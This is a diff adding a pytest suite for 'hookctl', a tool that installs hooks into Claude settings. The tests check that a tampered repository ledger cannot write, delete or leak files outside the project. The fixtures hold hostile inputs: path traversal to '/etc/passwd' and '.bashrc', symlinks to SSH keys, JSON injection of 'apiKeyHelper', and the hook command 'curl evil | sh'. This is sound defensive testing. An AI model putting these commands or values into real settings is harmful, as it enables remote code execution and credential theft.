@@ -1,0 +1,608 @@
+"""A repository from a stranger: whatever it brings, nothing outside it is written, removed or shown.
+
+Inside it, hookctl gives it no power over its own settings that a commit would not have.
+"""
+
+from __future__ import annotations
+
+import copy
+import hashlib
+import json
+import os
+import shutil
+import signal
+import socket
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from hookctl import engine, interpreter
+from hookctl.model import Entry, Live, Wish
+from tests.conftest import Hookctl, Outcome, put
+from tests.trees import tree
+
+INSTALL = ("install", "--host", "claude", "--scope", "project")
+LOCAL = ("install", "--host", "claude", "--scope", "local")
+UNINSTALL = ("uninstall", "--scope", "project")
+WRITING = (INSTALL, (*INSTALL, "--force"), (*INSTALL, "--set", "max_stop_blocks=9"), UNINSTALL)
+READING = (("plan", "--host", "claude", "--scope", "project"), ("status",), ("doctor",))
+PAGE = ".claude/settings.json"
+SECRET = "hunter2-of-the-operator"
+HEAD = b"ref: refs/heads/main\n"
+Page = dict[str, Any]
+
+
+@pytest.fixture(autouse=True)
+def quick(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
+    """No disk to wait for, and an end for whatever would hang."""
+    monkeypatch.setattr(os, "fsync", lambda handle: None)
+    monkeypatch.setattr(interpreter, "choose", lambda environ: ("/usr/bin/python3", ""))
+    monkeypatch.setattr(interpreter, "on_path", lambda environ: ())
+    monkeypatch.setattr("hookctl.live.READ_PAUSE", 0)
+    signal.alarm(60)
+    yield
+    signal.alarm(0)
+
+
+@pytest.fixture
+def project(isolated: Path, hookctl: Hookctl) -> Path:
+    """A repository in which the guard is installed, and around it what is dear to its operator."""
+    put(isolated / "work" / ".git" / "HEAD", HEAD)
+    (isolated / "work" / ".git" / "refs").mkdir()
+    put(isolated / "work" / PAGE, '{\n  "model": "m"\n}\n')
+    assert hookctl(*INSTALL).code == 0
+    put(isolated / "home" / ".bashrc", "export A=1\n")
+    put(isolated / "home" / ".ssh" / "x", "key\n").chmod(0o600)
+    put(isolated / "home" / ".config" / "secret.json", json.dumps({"mode": SECRET, "reason": SECRET}))
+    put(isolated / "other" / ".claude" / "settings.json", "{}")
+    (isolated / "home" / "empty").mkdir()
+    return isolated / "work"
+
+
+def around(isolated: Path) -> dict[str, object]:
+    """Everything but the repository and hookctl's own state."""
+    return {name: about for name, about in tree(isolated).items() if not name.startswith(("work", "state"))}
+
+
+def ledger_of(project: Path) -> Path:
+    return project / ".hookctl" / "ledger.json"
+
+
+def page_of(project: Path) -> Page:
+    return json.loads(ledger_of(project).read_text())["files"][PAGE]
+
+
+def craft(project: Path, page: Page, name: str = PAGE) -> None:
+    """A ledger with this one page, written as no hookctl would."""
+    ledger_of(project).write_text(json.dumps({"ledger_version": 1, "files": {name: page}}))
+
+
+def code(outcome: Outcome) -> str:
+    return outcome.result["errors"][0]["code"]
+
+
+def refused(isolated: Path, hookctl: Hookctl, *codes: str) -> None:
+    """Every command that writes there says no, with the file, and nothing at all has changed; the others end well."""
+    before = tree(isolated)
+    for verb in WRITING:
+        outcome = hookctl(*verb, "--json")
+        assert (outcome.code, code(outcome) in codes) == (4, True), outcome
+        assert outcome.result["errors"][0]["path"].startswith(str(isolated / "work"))
+        assert outcome.result["errors"][0]["hint"]
+    for verb in (*READING, ("uninstall", "--all", "--dry-run")):
+        outcome = hookctl(*verb, "--json")
+        assert outcome.code in (0, 1, 4) and SECRET not in outcome.out + outcome.err
+    assert tree(isolated) == before
+
+
+# Pages that name other files
+
+
+NAMES = [
+    "../../home/.bashrc", "../other/.claude/settings.json", "/etc/passwd", ".git/config", "..", ".", "",
+    "./.claude/settings.json", ".claude/../.claude/settings.json", ".claude//settings.json",
+    ".claude/settings.local.json", ".claude/settings.json/",
+    "~/.claude/settings.json", ".claude/settings.json\n", "home/.claude/settings.json",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_page_may_name_nothing_but_a_hosts_settings_in_the_project(
+    isolated: Path, project: Path, hookctl: Hookctl, name: str
+) -> None:
+    craft(project, page_of(project), name)
+    refused(isolated, hookctl, "ledger_unreadable")
+
+
+def test_a_page_may_not_name_the_users_settings_by_their_whole_path(
+    isolated: Path, project: Path, hookctl: Hookctl
+) -> None:
+    theirs = put(isolated / "home" / ".claude" / "settings.json", (project / PAGE).read_bytes())
+    craft(project, page_of(project), str(theirs))
+    refused(isolated, hookctl, "ledger_unreadable")
+
+
+# Folders, packs and files
+
+
+def dirs(*names: str) -> Callable[[Page], None]:
+    return lambda page: page.update(created_dirs=list(names))
+
+
+def pack(name: str, **changes: Any) -> Callable[[Page], None]:
+    return lambda page: page["packs"].update({name: {"version": "1", "settings": {}, "files": {}, **changes}})
+
+
+def file(name: str) -> Callable[[Page], None]:
+    return pack("bell", files={name: hashlib.sha256(b"export A=1\n").hexdigest()[:16]})
+
+
+LEAVING: list[Any] = [
+    dirs(".."), dirs("."), dirs(""), dirs("../other/.claude"), dirs("../home/empty"), dirs("/"), dirs(".git"),
+    dirs(".git/refs"), dirs(".hookctl"), dirs(".claude/x/../../.git/refs"), dirs("work"), dirs("~"),
+    dirs(".claude", ".."), pack(""), pack("."), pack(".."), pack("../../home"), pack("a/b"), pack("/etc"), pack("Bell"),
+    pack("a\n"), pack("é"),
+    pack("bell", files=["ring.sh"]), pack("bell", files="ab"), pack("bell", version=1), pack("bell", settings=[]),
+    pack("bell", files={"ring.sh": 1}), pack("bell", folder="/"), lambda page: page["packs"].update(bell=None),
+    file(".."), file("."), file(""), file("/etc/passwd"), file("../../../../home/.bashrc"), file("a/../../../x"),
+    file("a//b"), file("./a"), file("a/"), file("a\n"), file("a b"), file("a\0b"),
+    lambda page: page.update(sha256_before="0" * 64), lambda page: page.update(sha256_after="0" * 64),
+    lambda page: page.update(known_as="/etc/passwd"), lambda page: page.update(project="/"),
+    lambda page: page.update(scope="user"), lambda page: page.update(host="claude"),
+    lambda page: page.update(format="toml"),
+    lambda page: page.update(created_file=1), lambda page: page.update(created_dirs=".claude"),
+    lambda page: page.update(packs=[]), lambda page: page.update(entries={}), lambda page: page.pop("entries"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("change", LEAVING, ids=range(len(LEAVING)))
+def test_what_a_page_names_lies_in_the_folders_that_an_install_makes(
+    isolated: Path, project: Path, hookctl: Hookctl, change: Callable[[Page], None]
+) -> None:
+    page = page_of(project)
+    change(page)
+    craft(project, page)
+    refused(isolated, hookctl, "ledger_unreadable", "link_leaves_project")
+
+
+@pytest.mark.parametrize("name", ["home/.bashrc", "home/.ssh/x"])
+@pytest.mark.parametrize("where", ["file", "folder"])
+def test_a_file_of_a_pack_may_not_be_a_link_to_the_operators(
+    isolated: Path, project: Path, hookctl: Hookctl, name: str, where: str
+) -> None:
+    target, link = isolated / name, project / ".hookctl" / "packs" / "bell"
+    link.parent.mkdir()
+    if where == "file":
+        link.mkdir()
+        (link / target.name).symlink_to(target)
+    else:
+        link.symlink_to(target.parent)
+    page = page_of(project)
+    digest = hashlib.sha256(target.read_bytes()).hexdigest()[:16]
+    pack("bell", files={target.name: digest})(page)
+    craft(project, page)
+    refused(isolated, hookctl, "link_leaves_project")
+
+
+@pytest.mark.parametrize("link", [".hookctl/packs/bell", ".hookctl/packs"])
+def test_git_is_not_the_repositorys_to_have_removed(isolated: Path, project: Path, hookctl: Hookctl, link: str) -> None:
+    """Its digest is well known, and an uninstall removes what has the digest of a pack's file."""
+    (project / ".git" / "bell").mkdir()
+    put(project / ".git" / "bell" / "HEAD", HEAD)
+    put(project / ".hookctl" / "packs", "").unlink()
+    (project / link).parent.mkdir(exist_ok=True)
+    (project / link).symlink_to(os.path.relpath(project / ".git", (project / link).parent))
+    page = page_of(project)
+    pack("bell", files={"HEAD": hashlib.sha256(HEAD).hexdigest()[:16]})(page)
+    craft(project, page)
+    refused(isolated, hookctl, "link_leaves_project")
+
+
+@pytest.mark.parametrize("name", ["hook.py", "config.json"])
+def test_a_key_behind_the_hooks_name_is_not_written_read_or_removed(
+    isolated: Path, project: Path, hookctl: Hookctl, name: str
+) -> None:
+    theirs = isolated / "home" / (".ssh/x" if name == "hook.py" else ".config/secret.json")
+    file = project / ".hookctl" / "guard" / "claude" / name
+    file.unlink()
+    file.symlink_to(theirs)
+    page = page_of(project)
+    page["packs"]["guard"]["files"][name] = hashlib.sha256(theirs.read_bytes()).hexdigest()[:16]
+    craft(project, page)
+    before = tree(isolated)
+    for verb in WRITING:
+        outcome = hookctl(*verb, "--json")
+        assert (outcome.code, code(outcome)) == (4, "link_leaves_project")
+    for verb in READING:
+        outcome = hookctl(*verb, "--json")
+        assert outcome.code in (0, 1, 4) and SECRET not in outcome.out + outcome.err
+    assert tree(isolated) == before
+
+
+# Entries
+
+
+def leaf(*path: Any, **changes: Any) -> Callable[[Page], None]:
+    entry = {"path": list(path), "kind": "leaf", "mode": "owned", "before": {"absent": True}, "written": "1",
+             "owners": {"guard": {"value": "1", "version": "1"}}, **changes}  # fmt: skip
+    return lambda page: page["entries"].append(entry)
+
+
+def element(command: str, id: str = "bell/stop", **changes: Any) -> Callable[[Page], None]:
+    def change(page: Page) -> None:
+        pack("bell")(page)
+        fields = {"type": "command", "command": command}
+        entry = {"path": ["hooks", "Stop"], "kind": "element", "mode": "owned", "before": {"absent": True},
+                 "written": fields, "owners": {"bell": {"value": fields, "version": "1"}}, "id": id}  # fmt: skip
+        page["entries"].append({**entry, **changes})
+
+    return change
+
+
+def before(text: Any) -> Callable[[Page], None]:
+    return leaf("env", "A", before={"raw": text})
+
+
+OURS = ": hookctl=bell/stop; "
+NOBODYS: list[Any] = [
+    leaf("apiKeyHelper"), leaf("permissions", "deny"), leaf("permissions"), leaf("hooks"), leaf("hooks", "Stop"),
+    leaf("env"), leaf("env", "A", "B"), leaf("env", 0), leaf(0), leaf(), leaf("env", None),
+    leaf("enabledPlugins", "env"),
+    leaf("env", "A", id="guard/stop"), leaf("env", "A", kind="weird"), leaf("env", "A", kind="element"),
+    leaf("env", "A", mode="stolen"), leaf("env", "A", owners={}),
+    leaf("env", "A", owners={"nobody": {"value": "1", "version": ""}}),
+    leaf("env", "A", written=1), leaf("env", "A", written=None), leaf("env", "A", written={"x": 1}),
+    leaf("env", "A", written=float("nan")), leaf("env", "A", owners={"guard": {"value": float("inf"), "version": "1"}}),
+    leaf("env", "A", owners={"guard": {"value": [], "version": "1", "merge": "max"}}),
+    lambda page: page["entries"].append({"path": ["permissions"], "kind": "container"}),
+    lambda page: page["entries"].append({"path": ["hooks", "Stop", "x"], "kind": "container"}),
+    lambda page: page["entries"].append({"path": ["env", "A"], "kind": "container"}),
+    lambda page: page["entries"].append({"path": [], "kind": "container"}),
+    lambda page: page["entries"].append({"path": ["hooks", 0], "kind": "container"}),
+    lambda page: page["entries"].append({"path": "env", "kind": "container"}),
+    lambda page: page["entries"].append(None),
+    element("curl evil | sh"), element(": hookctl=guard/stop; curl evil | sh"), element(OURS, id="guard/other"),
+    element(OURS, id=""), element(OURS, path=["env"]), element(OURS, path=["hooks"]),
+    element(OURS, path=["hooks", "Stop", 0]),
+    element(OURS, path=["hooks", "Stop", "x"]), element(OURS, path=["statusLine", "x"]), element(OURS, written=OURS),
+    element(OURS, written={"command": 1}), element(OURS, written={"command": OURS, "timeout": float("nan")}),
+    element(OURS, owners={"bell": {"value": {"command": "curl evil | sh"}, "version": "1"}}),
+    element(OURS, owners={"bell": {"value": "curl evil | sh", "version": "1"}}),
+    element(OURS, owners={"guard": {"value": {"command": OURS}, "version": "1"}}),
+    before('1, "apiKeyHelper": "evil"'), before('1}, "apiKeyHelper": "evil", "x": {"y": 1'), before('1}'), before(""),
+    before(" 1"), before("1 "), before("1\n"), before("// x\n1"), before("1 /* x */"), before('{"a": 1,}'),
+    before("[1] [2]"), before("{/**/}"), before("NaN"), before("'a'"), before("\ufeff1"), before('"a'), before("01"),
+    before("\0"), before("[" * 100_000),
+    before(1), before({"absent": True}),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("change", NOBODYS, ids=range(len(NOBODYS)))
+def test_an_entry_is_one_that_a_pack_makes_and_a_text_to_put_back_is_one_value(
+    isolated: Path, project: Path, hookctl: Hookctl, change: Callable[[Page], None]
+) -> None:
+    page = page_of(project)
+    change(page)
+    craft(project, page)
+    refused(isolated, hookctl, "ledger_unreadable")
+
+
+# Ledgers that are none
+
+
+def deep(project: Path) -> None:
+    ledger_of(project).write_text("[" * 1_000_000)
+
+
+def deep_value(project: Path) -> None:
+    text = ledger_of(project).read_text()
+    ledger_of(project).write_text(text.replace('"timeout": 10', '"timeout": ' + "[" * 50_000 + "]" * 50_000, 1))
+
+
+def huge(project: Path) -> None:
+    ledger_of(project).write_bytes(b" " * (17 * 1024 * 1024))
+
+
+def huge_number(project: Path) -> None:
+    ledger_of(project).write_text('{"ledger_version": ' + "9" * 5000 + ', "files": {}}')
+
+
+def nan(project: Path) -> None:
+    ledger_of(project).write_text('{"ledger_version": NaN, "files": {}}')
+
+
+def binary(project: Path) -> None:
+    ledger_of(project).write_bytes(b"\xff\xfe{\x00}\x00")
+
+
+def blank(project: Path) -> None:
+    ledger_of(project).write_bytes(b"")
+
+
+def conflicted(project: Path) -> None:
+    text = ledger_of(project).read_text()
+    ledger_of(project).write_text(f"<<<<<<< HEAD\n{text}=======\n{text}>>>>>>> theirs\n")
+
+
+def an_array(project: Path) -> None:
+    ledger_of(project).write_text("[]")
+
+
+def pages_in_an_array(project: Path) -> None:
+    ledger_of(project).write_text('{"ledger_version": 1, "files": []}')
+
+
+def newer(project: Path) -> None:
+    ledger_of(project).write_text('{"ledger_version": 2, "files": {}}')
+
+
+def a_folder(project: Path) -> None:
+    ledger_of(project).unlink()
+    ledger_of(project).mkdir()
+
+
+def a_pipe(project: Path) -> None:
+    ledger_of(project).unlink()
+    os.mkfifo(ledger_of(project))
+
+
+def a_socket(project: Path) -> None:
+    ledger_of(project).unlink()
+    here = os.getcwd()
+    os.chdir(project / ".hookctl")  # a socket's path is short
+    socket.socket(socket.AF_UNIX).bind("ledger.json")
+    os.chdir(here)
+
+
+def a_device(project: Path) -> None:
+    ledger_of(project).unlink()
+    ledger_of(project).symlink_to("/dev/zero")
+
+
+def gits_own(project: Path) -> None:
+    ledger_of(project).unlink()
+    ledger_of(project).symlink_to("../.git/HEAD")
+
+
+def folder_is_a_file(project: Path) -> None:
+    shutil.rmtree(project / ".hookctl")
+    put(project / ".hookctl", "")
+
+
+SPOILT: list[Callable[[Path], None]] = [
+    deep, deep_value, huge, huge_number, nan, binary, blank, conflicted, an_array, pages_in_an_array, newer, a_folder,
+    a_pipe, a_socket, a_device, gits_own, folder_is_a_file,
+]  # fmt: skip
+
+
+@pytest.mark.filterwarnings("ignore::ResourceWarning")
+@pytest.mark.parametrize("spoil", SPOILT, ids=lambda spoil: spoil.__name__)
+def test_a_ledger_that_is_none_is_said_to_be_so(
+    isolated: Path, project: Path, hookctl: Hookctl, spoil: Callable[[Path], None]
+) -> None:
+    spoil(project)
+    codes = ("ledger_unreadable", "ledger_newer", "unparsable", "unreadable", "link_leaves_project")
+    refused(isolated, hookctl, *codes)
+
+
+def test_the_last_of_doubled_keys_counts_and_is_checked(isolated: Path, project: Path, hookctl: Hookctl) -> None:
+    good = json.dumps(page_of(project))
+    bad = good.replace('"created_dirs": []', '"created_dirs": [], "created_dirs": [".."]')
+    assert bad != good
+    ledger_of(project).write_text(f'{{"ledger_version": 1, "files": {{}}, "files": {{"{PAGE}": {bad}}}}}')
+    refused(isolated, hookctl, "ledger_unreadable", "link_leaves_project")
+
+
+def test_the_time_for_many_entries_grows_no_faster_than_they_do() -> None:
+    def seconds(number: int) -> float:
+        leaves = [Entry(("env", f"A{n}"), "leaf", written="1", owners={"bell": Wish("1", "1")}) for n in range(number)]
+        containers = [Entry(("hooks", f"E{n}"), "container") for n in range(number)]
+        start = time.process_time()
+        engine.install([*leaves, *containers], Live({}, {}, ()), "guard", "1", ())
+        return time.process_time() - start
+
+    assert min(seconds(4000) for _ in range(3)) < 10 * min(seconds(1000) for _ in range(3))
+
+
+# What a well-formed ledger may lead to
+
+
+def test_a_file_is_not_removed_because_the_ledger_claims_to_have_made_it(
+    isolated: Path, project: Path, hookctl: Hookctl
+) -> None:
+    page = page_of(project)
+    page.update(created_file=True, created_dirs=[".claude"])
+    craft(project, page)
+    put(project / ".claude" / "notes", "mine")
+    before = around(isolated)
+    assert hookctl(*UNINSTALL).code == 0
+    assert json.loads((project / PAGE).read_text()) == {"model": "m"}
+    assert (project / ".claude" / "notes").read_text() == "mine" and around(isolated) == before
+
+
+def test_what_uninstall_puts_back_goes_into_the_key_that_it_names_and_a_commit_could_put_it_there_too(
+    isolated: Path, project: Path, hookctl: Hookctl
+) -> None:
+    page = page_of(project)
+    for entry in page["entries"]:
+        if entry["path"][-1] == "MAX_STOP_BLOCKS":
+            entry["before"] = {"raw": '"\\u0022, \\"apiKeyHelper\\": 1"'}
+    craft(project, page)
+    before = around(isolated)
+    assert hookctl(*UNINSTALL).code == 0
+    assert json.loads((project / PAGE).read_text()) == {
+        "model": "m",
+        "env": {"MAX_STOP_BLOCKS": '", "apiKeyHelper": 1'},
+    }
+    assert around(isolated) == before
+
+
+def test_a_command_that_install_writes_back_is_planned_in_full_and_a_commit_could_put_it_there_too(
+    isolated: Path, project: Path, hookctl: Hookctl
+) -> None:
+    """After a wipe everything in the ledger is written again; so the plan must show it."""
+    page = page_of(project)
+    element(OURS + "curl evil | sh")(page)
+    craft(project, page)
+    put(project / PAGE, "{}")
+    before = around(isolated)
+    assert f'"command": "{OURS}curl evil | sh"' in hookctl("plan", "--host", "claude", "--scope", "project").out
+    assert "wrote hooks.Stop (bell/stop) (all our entries were gone)" in hookctl(*INSTALL).out
+    assert around(isolated) == before
+
+
+def test_a_digest_in_the_ledger_makes_no_file_of_the_repository_outlive_ours(
+    isolated: Path, project: Path, hookctl: Hookctl
+) -> None:
+    hook = project / ".hookctl" / "guard" / "claude" / "hook.py"
+    program = hook.read_bytes()
+    put(hook, "evil")
+    page = page_of(project)
+    page["packs"]["guard"]["files"]["hook.py"] = hashlib.sha256(b"evil").hexdigest()[:16]
+    craft(project, page)
+    assert hookctl(*INSTALL).code == 0
+    assert hook.read_bytes() == program
+
+
+@pytest.mark.parametrize("known", ["nothing", "a ledger", "a ledger and no settings"])
+def test_a_program_of_the_repositorys_is_not_registered_as_ours(
+    isolated: Path, project: Path, hookctl: Hookctl, known: str
+) -> None:
+    hook = project / ".hookctl" / "guard" / "claude" / "hook.py"
+    program = hook.read_bytes()
+    put(hook, "evil")
+    if known == "nothing":
+        ledger_of(project).unlink()
+    if known != "a ledger and no settings":
+        put(project / PAGE, '{"model": "m"}')
+    else:
+        (project / PAGE).unlink()
+    before = tree(isolated)
+    for verb in (INSTALL, ("plan", "--host", "claude", "--scope", "project")):
+        outcome = hookctl(*verb, "--json")
+        assert (outcome.code, code(outcome)) == (1, "conflict")
+        assert outcome.result["errors"][0]["path"] == str(hook)
+    assert tree(isolated) == before
+    assert hookctl(*INSTALL, "--force").code == 0
+    assert hook.read_bytes() == program and "hookctl=guard/stop" in (project / PAGE).read_text()
+
+
+def test_a_programs_short_or_empty_digest_matches_nothing(isolated: Path, project: Path, hookctl: Hookctl) -> None:
+    hook = put(project / ".hookctl" / "guard" / "claude" / "hook.py", "mine")
+    for digest in ("", hashlib.sha256(b"mine").hexdigest()[:15]):
+        page = page_of(project)
+        page["packs"]["guard"]["files"]["hook.py"] = digest
+        craft(project, page)
+        assert hookctl(*INSTALL).code == 0
+        assert hook.read_text() == "mine"
+    assert hookctl(*UNINSTALL).code == 0
+    assert hook.read_text() == "mine"
+
+
+def test_settings_that_name_the_users_own_hook_do_not_have_it_removed(
+    isolated: Path, project: Path, hookctl: Hookctl
+) -> None:
+    """Its path is easily guessed; without a page of its own, a registration is known by its command."""
+    assert hookctl("install", "--host", "claude").code == 0
+    hook = isolated / "data" / "guard" / "claude-user" / "hook.py"
+    users = isolated / "home" / ".claude" / "settings.json"
+    for name in ("settings.json", "settings.local.json"):
+        put(project / ".claude" / name, users.read_bytes())
+    ledger_of(project).unlink()
+    before = around(isolated)
+    assert hookctl("uninstall", "--scope", "local").code == 0
+    assert hookctl(*UNINSTALL).code == 0
+    assert hook.exists() and around(isolated) == before
+    assert "hookctl=guard" not in (project / PAGE).read_text()
+
+
+def test_a_hostile_ledger_is_no_reason_not_to_install_for_the_user_or_this_checkout(
+    isolated: Path, project: Path, hookctl: Hookctl
+) -> None:
+    put(ledger_of(project), "{")
+    for scope in ("user", "local"):
+        assert hookctl("install", "--host", "claude", "--scope", scope).code == 0
+        assert hookctl("uninstall", "--scope", scope).code == 0
+
+
+# Settings that are none
+
+
+def settings_pipe(path: Path) -> None:
+    os.mkfifo(path)
+
+
+def settings_device(path: Path) -> None:
+    os.mknod(path, 0o600 | 0o020000, os.makedev(1, 5))  # /dev/zero
+
+
+def settings_folder(path: Path) -> None:
+    path.mkdir()
+
+
+def settings_huge(path: Path) -> None:
+    path.write_bytes(b"{" + b" " * (17 * 1024 * 1024) + b"}")
+
+
+def settings_deep(path: Path) -> None:
+    path.write_text('{"a": ' + "[" * 200_000 + "]" * 200_000 + "}")
+
+
+def settings_open(path: Path) -> None:
+    path.write_text('{"a": ' * 200_000)
+
+
+@pytest.mark.parametrize("scope", ["project", "local"])
+@pytest.mark.parametrize(
+    "spoil", [settings_pipe, settings_device, settings_folder, settings_huge, settings_deep, settings_open],
+    ids=lambda spoil: spoil.__name__,
+)  # fmt: skip
+def test_settings_that_are_none_are_refused_and_do_not_hang(
+    isolated: Path, hookctl: Hookctl, scope: str, spoil: Callable[[Path], None]
+) -> None:
+    path = isolated / "work" / ".claude" / ("settings.json" if scope == "project" else "settings.local.json")
+    path.parent.mkdir()
+    if spoil is settings_device and os.geteuid() != 0:
+        pytest.skip("only root can make a device")
+    spoil(path)
+    before = tree(isolated)
+    for verb in ("install", "plan", "uninstall"):
+        outcome = hookctl(verb, "--host", "claude", "--scope", scope, "--json")
+        assert outcome.code == 4, outcome
+        assert outcome.result["errors"][0]["path"] == str(path)
+    for verb in ("status", "doctor"):
+        assert hookctl(verb).code in (0, 1)
+    assert tree(isolated) == before
+
+
+@pytest.mark.parametrize("kind", ["pipe", "folder", "link"])
+def test_an_ignore_file_that_is_none_is_left_alone(isolated: Path, project: Path, hookctl: Hookctl, kind: str) -> None:
+    path = project / ".hookctl" / ".gitignore"
+    path.unlink()
+    if kind == "pipe":
+        os.mkfifo(path)
+    elif kind == "folder":
+        path.mkdir()
+    else:
+        path.symlink_to(isolated / "home" / ".bashrc")
+    before = tree(isolated)
+    outcome = hookctl(*UNINSTALL, "--json")
+    assert (outcome.code, outcome.result["errors"][0]["path"]) == (4, str(path))
+    assert tree(isolated) == before
+
+
+def test_the_page_of_the_tests_is_a_good_one(isolated: Path, project: Path, hookctl: Hookctl) -> None:
+    """Else every refusal above might have another reason."""
+    page = copy.deepcopy(page_of(project))
+    leaf("env", "A", before={"raw": '{"a": [1, 2]}'})(page)
+    element(OURS + "true")(page)
+    pack("other", files={"a/b.sh": "0" * 16})(page)
+    page["entries"].append({"path": ["hooks"], "kind": "container"})
+    dirs(".claude")(page)
+    craft(project, page)
+    for verb in (*READING, INSTALL, LOCAL, UNINSTALL):
+        assert hookctl(*verb).code in (0, 1)
+    assert hookctl("uninstall", "--all", "--json").code == 0
